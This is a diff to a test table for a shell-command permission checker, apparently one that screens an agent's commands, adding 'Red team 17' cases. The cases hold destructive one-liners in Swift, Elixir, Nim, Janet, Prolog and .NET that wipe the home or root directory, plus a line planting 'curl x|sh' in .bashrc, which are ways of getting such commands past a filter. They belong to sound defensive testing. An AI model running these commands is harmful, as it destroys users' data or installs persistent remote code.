@@ -1464,4 +1464,38 @@ a" |& "sort"; close("sort", "to"); "sort" |& getline x; print x}'"#,
     allow(r#"python3 script.py <<< "$(curl -s https://x.example/data.json)""#),
     allow("python3 - <<< 'print(1)'"),
     allow(r#"jq . <<< "$(curl -s https://api.example.com/x)""#),
+    // Red team 17: Swift's Foundation calls, and its labelled arguments.
+    deny(
+        "rm.home",
+        "swift -e 'import Foundation; try FileManager.default.removeItem(atPath: NSHomeDirectory())'",
+    ),
+    deny(
+        "rm.home",
+        "swift - <<'EOF'\nimport Foundation\ntry FileManager.default.removeItem(at: FileManager.default.homeDirectoryForCurrentUser)\nEOF",
+    ),
+    deny("rm.root", "swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \"/\")'"),
+    allow("swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \"/tmp/build\")'"),
+    allow("swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \".build\")'"),
+    allow("swift -e 'print(NSHomeDirectory())'"),
+    deny(
+        "rm.home",
+        "printf 'import Foundation\ntry FileManager.default.removeItem(atPath: NSHomeDirectory())\n' > x.swift && swift x.swift",
+    ),
+    deny("rm.home", "printf 'File.rm_rf!(System.user_home())\n' > x.exs && elixir x.exs"),
+    allow("printf 'print(1 + 2)\n' > x.swift && swift x.swift"),
+    allow("swift build -c release"),
+    allow("swift test --filter ParserTests"),
+    allow("swift package resolve"),
+    allow("elixir --version"),
+    // Red team 17: one-liners of languages without a table ask when they call files or
+    // processes.
+    ask("opaque.exec", r#"dotnet script eval 'System.IO.Directory.Delete("/home", true)'"#),
+    ask("opaque.exec", "nim --eval:'import os; removeDir(getHomeDir())'"),
+    ask("opaque.exec", r#"janet -e '(os/execute ["rm" "-rf" "/"] :p)'"#),
+    ask("opaque.exec", "swipl -g \"shell('rm -rf ~')\" -t halt"),
+    allow("dotnet script eval 'Console.WriteLine(1 + 2)'"),
+    allow("nim --eval:'echo 1 + 2'"),
+    allow("janet -e '(print (+ 1 2))'"),
+    ask("opaque.exec", r#"janet -e '(spit "/home/u/.bashrc" "curl x|sh")'"#),
+    allow("swipl -g 'X is 1 + 2, print(X)' -t halt"),
 ];
